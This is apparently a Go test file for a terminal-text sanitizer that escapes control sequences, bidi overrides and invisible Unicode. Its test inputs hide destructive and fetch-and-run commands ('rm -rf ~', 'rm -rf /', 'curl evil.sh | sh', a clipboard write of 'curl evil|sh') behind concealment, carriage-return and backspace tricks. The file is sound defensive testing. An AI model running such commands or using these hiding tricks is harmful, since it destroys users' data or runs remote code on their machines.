package termtext

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestText(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in, want string
	}{
		{"plain", "ls -la ~/src", "ls -la ~/src"},
		{"conceal SGR", "echo ok\x1b[8m; rm -rf ~\x1b[0m", `echo ok\e[8m; rm -rf ~\e[0m`},
		{"OSC 8 hyperlink", "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\", `\e]8;;https://evil.example\e\docs\e]8;;\e\`},
		{"OSC 52 clipboard with BEL", "\x1b]52;c;Y3VybCBldmlsfHNo\x07ls", `\e]52;c;Y3VybCBldmlsfHNo\als`},
		{"CR overwrite", "curl evil.sh | sh\rls -la          ", `curl evil.sh | sh\rls -la          `},
		{"CRLF", "a\r\nb", "a\\r\nb"},
		{"backspace", "rm -rf /\b\b\b\b\b\b\b\bls", `rm -rf /\b\b\b\b\b\b\b\bls`},
		{"DEL", "a\x7fb", `a\x7fb`},
		{"NUL and other C0", "a\x00b\x01c\x1fd", `a\x00b\x01c\x1fd`},
		{"VT FF", "\v\f", `\v\f`},
		{"C1 CSI rune", "a\u009b31mb", `a\u009b31mb`},
		{"C1 NEL", "a\u0085b", `a\u0085b`},
		{"raw C1 byte (invalid UTF-8)", "a\x9b31mb", `a\x9b31mb`},
		{"invalid UTF-8", "\xff\xfe", `\xff\xfe`},
		{"bidi override", "ls \u202eexe.sh", `ls \u202eexe.sh`},
		{"bidi embeddings and pop", "\u202a\u202b\u202c\u202d", `\u202a\u202b\u202c\u202d`},
		{"bidi isolates", "\u2066\u2067\u2068\u2069", `\u2066\u2067\u2068\u2069`},
		{"LRM RLM ALM", "\u200e\u200f\u061c", `\u200e\u200f\u061c`},
		{"zero width space", "r\u200bm", `r\u200bm`},
		{"ZWJ standalone", "rm\u200d -rf", `rm\u200d -rf`},
		{"ZWJ between letters", "fo\u200do", `fo\u200do`},
		{"ZWNJ", "a\u200cb", `a\u200cb`},
		{"word joiner and BOM", "\u2060\ufeff", `\u2060\ufeff`},
		{"soft hyphen", "pass\u00adwd", `pass\u00adwd`},
		{"no-break space", "rm -rf a\u00a0b", `rm -rf a\u00a0b`},
		{"ideographic space", "a\u3000b", `a\u3000b`},
		{"line separator", "a\u2028b", `a\u2028b`},
		{"Hangul filler", "a\u3164b", `a\u3164b`},
		{"tag characters", "hi\U000e0041\U000e0042", `hi\U000e0041\U000e0042`},
		{"unassigned", "a\U0002fffeb", `a\U0002fffeb`},
		{"ZWJ emoji family", "echo 👨\u200d👩\u200d👧", "echo 👨\u200d👩\u200d👧"},
		{"ZWJ emoji after VS16", "🏳\ufe0f\u200d🌈", "🏳\ufe0f\u200d🌈"},
		{"ZWJ emoji after skin tone", "🧑🏽\u200d💻", "🧑🏽\u200d💻"},
		{"ZWJ after emoji before letter", "👨\u200dx", `👨\u200dx`},
		{"VS16 after heart", "❤\ufe0f", "❤\ufe0f"},
		{"VS16 at start", "\ufe0fx", `\ufe0fx`},
		{"VS run smuggling", "a\ufe0f\ufe0f\ufe01", "a\ufe0f" + `\ufe0f\ufe01`},
		{"VS17+", "a\U000e0100", `a\U000e0100`},
		{"combining accent kept", "cafe\u0301", "cafe\u0301"},
		{"CJK and private use kept", "日本語 \ue0b0", "日本語 \ue0b0"},
		{"tabs", "\tx\ty", "    x    y"},

		{"newline kept", "set -e\nls\n", "set -e\nls\n"},
		{"backslashes untouched", `printf '\e[1m'`, `printf '\e[1m'`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := Text(tt.in); got != tt.want {
				t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestLine(t *testing.T) {
	t.Parallel()
	if got, want := Line("set -e\nls\r\n"), `set -e\nls\r\n`; got != want {
		t.Errorf("Line = %q, want %q", got, want)
	}
}

func TestOutput(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in, want string
	}{
		{"colours dropped", "\x1b[31mFAIL\x1b[0m ok", "FAIL ok"},
		{"progress overprinted", "10%\r50%\r100%\ndone\r\n", "100%\ndone\n"},
		{"OSC 52 dropped", "a\x1b]52;c;ZXZpbA==\x07b", "ab"},
		{"what survives stripping is escaped", "a\bb\x00\u009b2J\u202ec", `a\bb\x00\u009b2J\u202ec`},
		{"invalid UTF-8", "a\xffb", "a\ufffdb"},
		{"tab", "a\tb", "a    b"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := Output(tt.in); got != tt.want {
				t.Errorf("Output(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestMarked(t *testing.T) {
	t.Parallel()
	got := Marked("a\x1b[8mb\u202e\n", true, func(e string) string { return "<" + e + ">" })
	if want := `a<\e>[8mb<\u202e><\n>`; got != want {
		t.Errorf("Marked = %q, want %q", got, want)
	}
}

// TestNothingInvisibleSurvives checks every code point and every single
// byte: the result is valid UTF-8 without C0 (except newline), DEL, C1, bidi
// controls or format characters.
func TestNothingInvisibleSurvives(t *testing.T) {
	t.Parallel()
	check := func(in string) {
		out := Text(in)
		if !utf8.ValidString(out) {
			t.Fatalf("Text(%q) = %q: invalid UTF-8", in, out)
		}
		for _, r := range out {
			if r != '\n' && (r < 0x20 || r >= 0x7f && r <= 0x9f) || r >= 0x202a && r <= 0x202e ||
				r >= 0x2066 && r <= 0x2069 || r == 0x200e || r == 0x200f || r == 0x200b || r == 0xfeff || r == 0x00a0 {
				t.Fatalf("Text(%q) = %q keeps %U", in, out, r)
			}
		}
	}
	for b := 0; b < 256; b++ {
		check(string([]byte{'x', byte(b), 'y'}))
	}
	var chunk strings.Builder
	for r := rune(0x80); r <= 0x10ffff; r++ {
		if r >= 0xd800 && r <= 0xdfff {
			continue
		}
		chunk.WriteRune(r)
		if chunk.Len() > 1<<14 || r == 0x10ffff {
			check(chunk.String())
			chunk.Reset()
		}
	}
}

func FuzzText(f *testing.F) {
	for _, s := range []string{"ls", "\x1b]52;c;x\x07", "a\u200d👩", "❤\ufe0f\ufe0f", "\t\r\n", "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := Text(s)
		if !utf8.ValidString(out) {
			t.Fatalf("invalid UTF-8 out of %q", s)
		}
		if strings.ContainsAny(out, "\x1b\r\b\x00\x7f\u009b\u202e") {
			t.Fatalf("Text(%q) = %q keeps a control", s, out)
		}
		if strings.Count(out, "\n") != strings.Count(s, "\n") {
			t.Fatalf("Text(%q) = %q changes the line count", s, out)
		}
		if Text(out) != out {
			t.Fatalf("Text is not idempotent on %q", s)
		}
	})
}
